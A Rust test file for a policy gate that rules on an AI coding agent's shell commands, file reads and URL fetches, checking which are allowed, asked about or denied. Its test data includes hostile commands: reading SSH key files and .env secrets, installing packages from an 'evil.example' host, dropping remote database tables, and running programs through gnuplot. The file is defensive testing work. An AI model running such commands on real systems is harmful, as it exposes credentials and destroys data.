//! Lines that one small function decides: each stands beside one that differs in what the function looks at.

use gate::{Context, Policies, Subject, Written, binding, decide, needs};
use ledger::facts::Fact;
use ledger::gate::{Checkpoint, GateDecision, Verdict};
use ledger::ids::Hash;
use ledger::observation::{ChangeFacts, TestFacts};
use ledger::options::{PolicySet, Rule, RuleAction, RuleOrigin};
use ledger::phase::Role;
use ledger::proposal::{Proposal, Shell};
use serde_json::{Value, json};

use crate::world::{answer, base, judge_text, policies, set};

fn judge(tool: &str, args: &Value, context: &Value) -> GateDecision {
    judge_text(&json!({ "tool": tool, "args": args, "context": context }).to_string())
}

fn run(command: &str) -> GateDecision {
    judge("run_command", &json!({ "command": command }), &json!({}))
}

fn ids(decision: &GateDecision) -> Vec<String> {
    let all = decision.findings.iter();
    all.map(|it| format!("{}/{}", it.policy, it.id)).collect()
}

#[test]
fn where_a_command_reaches_decides() {
    use Verdict::{Allow, Ask, Deny};
    for (command, verdict, id) in [
        // What speaks of steering, in a file that steers.
        (
            "printf 'addopts = x' > pyproject.toml",
            Ask,
            "protected-path",
        ),
        ("printf 'name = x' > pyproject.toml", Allow, ""),
        // A pattern that fits a secret file.
        ("cat conf/id_r*", Deny, "secret"),
        ("cat conf/ix_r*", Allow, ""),
        ("cat ~/.wrang*/x", Deny, "secret"),
        // What every machine has, and what is somebody's.
        ("ls /opt/tool", Allow, ""),
        ("ls /srv/tool", Ask, "looks-outside"),
        // What is only passing.
        ("echo x > /tmp/a/b", Ask, "writes-outside"),
        ("echo x > /srv/a/b", Deny, "writes-outside"),
        ("rm /tmp/a/b", Ask, "deletes-outside"),
        ("rm /tmp2/a/b", Deny, "deletes-outside"),
        // A service of one's own.
        ("curl -k https://localhost:3000/x", Allow, ""),
        ("curl -k https://example.com/x", Ask, "trust"),
        // Data that is not the project's.
        ("psql -h localhost -c 'DROP TABLE x'", Ask, "destroys-data"),
        (
            "psql -h db.example.com -c 'DROP TABLE x'",
            Deny,
            "changes-remote-data",
        ),
        (
            "sqlite3 ~/app.db 'DROP TABLE x'",
            Deny,
            "changes-remote-data",
        ),
    ] {
        let decision = run(command);
        assert_eq!(decision.verdict, verdict, "{command}: {decision:#?}");
        let wanted = format!("shell-mutation/{id}");
        let found = ids(&decision);
        assert!(
            id.is_empty() || found.contains(&wanted),
            "{command}: {found:?}"
        );
    }
}

#[test]
fn what_a_program_is_given_decides() {
    use Verdict::{Ask, Deny};
    let deep = format!("echo {}x{}", "$(".repeat(300), ")".repeat(300));
    for (command, verdict, id) in [
        (deep.as_str(), Deny, "too-much"),
        // A directory of the machine, named by its drive.
        ("docker run -v C:/x:/y alpine", Deny, "container"),
        ("docker run -v ./x:/y alpine", Ask, "container"),
        // A package past the registry.
        ("npm install left-pad", Ask, "installs"),
        ("npm install ./local", Ask, "installs"),
        ("npm install github:evil/x", Deny, "foreign-package"),
        ("npm install evil/x", Deny, "foreign-package"),
        (
            "npm install x@https://evil.example/x.tgz",
            Deny,
            "foreign-package",
        ),
        // Code of which nobody knows the language.
        ("gnuplot -e 'plot x'", Ask, "runs-code"),
        ("gnuplot -e '!id'", Deny, "runs-programs"),
        ("gnuplot -e 'remove a/x'", Ask, "runs-code"),
        ("gnuplot -e 'remove /etc/x'", Deny, "writes-outside"),
        ("gnuplot -e 'remove \"/etc/x\"'", Deny, "writes-outside"),
        ("foo 'plot(\"id\")'", Ask, "not-understood"),
        ("foo 'system(\"id\")'", Deny, "runs-programs"),
    ] {
        let decision = run(command);
        assert_eq!(decision.verdict, verdict, "{command}: {decision:#?}");
        let wanted = format!("shell-mutation/{id}");
        assert!(ids(&decision).contains(&wanted), "{command}: {decision:#?}");
    }
}

#[test]
fn how_a_path_is_written_decides() {
    let read = |path: &str| ("read_file", json!({ "path": path }));
    let below = |glob: &str| {
        (
            "search",
            json!({"pattern": "x", "path": "src", "glob": glob}),
        )
    };
    for ((tool, args), allowed) in [
        (read("/home/dev/wt/feature-42/src/a.rs"), true),
        (read("/home/dev/wt/feature-43/src/a.rs"), false),
        (read("src/a.rs"), true),
        (read("C:/src/a.rs"), false),
        (read("config/secrets.yaml"), false),
        (read("config/secrets.template.yaml"), true),
        (below("*.rs"), true),
        (below("/etc/*.rs"), false),
    ] {
        let decision = judge(tool, &args, &json!({}));
        assert_eq!(
            decision.verdict == Verdict::Allow,
            allowed,
            "{args}: {decision:#?}"
        );
    }
}

#[test]
fn a_path_that_leads_elsewhere_is_named_by_where() {
    for (tool, path, expected) in [
        ("delete_file", "/home/dev/wt/feature-42", "worktree-root"),
        ("delete_file", "/home/dev/wt/feature-43", "outside-worktree"),
        ("read_file", "C:/src/a.rs", "outside-worktree"),
    ] {
        let decision = judge(tool, &json!({ "path": path }), &json!({}));
        let expected = format!("workspace-path/{expected}");
        assert!(ids(&decision).contains(&expected), "{path}: {decision:#?}");
    }
}

/// A page of the documentation may be read, also by who has read something from outside; a code in its name may carry
/// something out.
#[test]
fn pages_are_told_from_what_carries_data() {
    use Verdict::{Allow, Ask, Deny};
    for (url, taint, verdict) in [
        (
            "https://docs.rs/serde/latest/serde/trait.Deserialize.html",
            0,
            Allow,
        ),
        (
            "https://docs.rs/serde/latest/serde/trait.Deserialize.html",
            1,
            Allow,
        ),
        ("https://docs.rs/aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDe", 0, Ask),
        ("https://docs.rs/aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDe", 1, Deny),
        ("https://example.com/serde", 1, Deny),
    ] {
        let decision = judge(
            "fetch_url",
            &json!({ "url": url }),
            &json!({ "taint": taint }),
        );
        assert_eq!(decision.verdict, verdict, "{url}: {decision:#?}");
    }
}

/// Who reads a finding is told what would happen, in words.
#[test]
fn findings_say_what_is_done() {
    let path = || json!({"path": ".env"});
    let tainted = |taint: u32| json!({ "taint": taint });
    let fetch = || json!({"url": "https://example.com/x"});
    for (tool, args, context, expected) in [
        (
            "read_file",
            path(),
            json!({}),
            "`.env` is a secret file; agents don't read it",
        ),
        ("delete_file", path(), json!({}), "agents don't delete it"),
        (
            "write_file",
            json!({"path": ".env", "content": "x"}),
            json!({}),
            "agents don't write it",
        ),
        (
            "fetch_url",
            fetch(),
            tainted(1),
            "it would connect, and this task has read a text from outside",
        ),
        (
            "fetch_url",
            fetch(),
            tainted(3),
            "it would connect, and this task has read 3 texts",
        ),
    ] {
        let decision = judge(tool, &args, &context);
        let mut said = decision.findings.iter().map(|it| it.message.as_str());
        assert!(
            said.any(|it| it.contains(expected)),
            "{expected}: {decision:#?}"
        );
    }
}

/// Only a planner plans.
#[test]
fn a_generator_makes_no_plan() {
    let proposal = Proposal::Plan {
        plan: "{}".to_owned(),
    };
    for (role, denied) in [(Role::Planner, false), (Role::Generator, true)] {
        let context = Context { role, ..base() };
        let subject = Subject::Tool(&proposal);
        let decision = decide(Checkpoint::PreTool, &subject, &context, policies(), &[]);
        let found = ids(&decision).contains(&"tool-gateway/role-does-not-plan".to_owned());
        assert_eq!(found, denied, "{decision:#?}");
    }
}

/// What stands afterwards is compared with what stood before.
#[test]
fn a_file_that_was_written_is_compared_with_itself() {
    let tests = |thousandths: u64| TestFacts {
        thresholds: [("lines".to_owned(), thousandths)].into(),
        ..TestFacts::default()
    };
    let before = tests(80_000);
    for (facts, expected) in [
        (
            ChangeFacts {
                parses: Some(false),
                ..ChangeFacts::default()
            },
            "`src/a.rs` can no longer be parsed",
        ),
        (
            ChangeFacts {
                tests: Some(tests(72_500)),
                ..ChangeFacts::default()
            },
            "`lines` was 80 and is 72.500",
        ),
        (
            ChangeFacts {
                tests: Some(tests(81_000)),
                parses: Some(true),
                ..ChangeFacts::default()
            },
            "",
        ),
    ] {
        let written = Written {
            path: "src/a.rs",
            after: Some("x"),
            facts: Some(&facts),
            base: facts.tests.as_ref().map(|_| &before),
        };
        let subject = Subject::Written(written);
        let decision = decide(Checkpoint::PostWrite, &subject, &base(), policies(), &[]);
        let said: Vec<&str> = decision
            .findings
            .iter()
            .map(|it| it.message.as_str())
            .collect();
        match expected {
            "" => assert_eq!(said, [""; 0]),
            _ => assert!(said.contains(&expected), "{said:?}"),
        }
    }
}

/// A yes is bound to the manifests of where the command runs.
#[test]
fn the_manifest_is_that_of_the_commands_directory() {
    for (cwd, expected) in [(None, "package.json"), (Some("dir"), "dir/package.json")] {
        let proposal = Proposal::Shell {
            shell: Shell::Bash,
            command: "npm test".to_owned(),
            cwd: cwd.map(str::to_owned),
        };
        let stands = |question| match answer(question) {
            Fact::Path { asked, mut found } => {
                found.digest = Some(Hash::of(asked.as_bytes()));
                Fact::Path { asked, found }
            }
            fact @ (Fact::Branch(_)
            | Fact::Declared(_)
            | Fact::Text { .. }
            | Fact::DashedName { .. }
            | Fact::Names { .. }
            | Fact::InBase { .. }
            | Fact::Alike { .. }
            | Fact::Unknown { .. }) => fact,
        };
        let facts: Vec<Fact> = needs(&proposal, &base()).iter().map(stands).collect();
        let context = Context {
            facts: &facts,
            ..base()
        };
        let bound = binding(&Subject::Tool(&proposal), &context);
        let bound = format!("{:?}", bound.scripts);
        assert!(
            bound.contains(&format!("\"{expected}\"")),
            "{expected}: {bound}"
        );
    }
}

/// A rule that can't be read says why, without the expression.
#[test]
fn a_broken_rule_says_why() {
    let rule = Rule {
        name: "mine".to_owned(),
        pattern: "(open".to_owned(),
        when: None,
        action: RuleAction::Ask,
        applies_to: Vec::new(),
        message: None,
        origin: RuleOrigin::User,
    };
    let set = PolicySet {
        rules: vec![rule],
        ..set()
    };
    let problems = Policies::compile(&set).1;
    let expected = "rule `mine` can't be used: its pattern can't be read: unclosed group";
    assert_eq!(problems, [expected]);
}
